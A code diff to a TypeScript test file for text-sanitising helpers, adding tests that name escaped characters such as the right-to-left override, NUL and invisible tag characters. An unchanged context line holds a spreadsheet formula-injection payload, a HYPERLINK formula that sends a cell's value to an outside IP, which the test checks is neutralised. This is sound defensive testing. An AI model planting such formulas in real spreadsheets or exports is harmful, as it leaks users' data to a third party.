@@ -4,6 +4,7 @@ import { constants as osConstants } from 'node:os';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { capabilityNames, capabilityName, ALL_CAPABILITIES } from '../../../shared/format/capabilities.ts';
+import { escapeName } from '../../../shared/format/escape-names.ts';
 import { inertBytes, inertCell, inertString, inertText } from '../../../shared/format/inert-text.ts';
 import {
   adviceNames,
@@ -304,5 +305,27 @@ describe('inert text', () => {
       '\'=HYPERLINK("http://203.0.113.66/"&A1)',
     );
     expect(inertCell('a=b')).toBe('a=b');
+  });
+});
+
+describe('names of escapes', () => {
+  it.each([
+    ['\u202e', 'right-to-left override'],
+    ['\u0000', 'NUL'],
+    ['\n', 'line feed'],
+    ['\u0003', 'control character'],
+    ['\u{e0041}', 'tag or variation selector'],
+    ['\u2063', 'character that can not be seen'],
+  ])('%j is told as %s', (character, name) => {
+    expect(inertText(character).map(({ text }) => escapeName(text))).toEqual([name]);
+  });
+
+  it('every character that is escaped has a name', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        for (const segment of inertText(text))
+          if (segment.escaped) expect(escapeName(segment.text)).not.toBe('escape');
+      }),
+    );
   });
 });
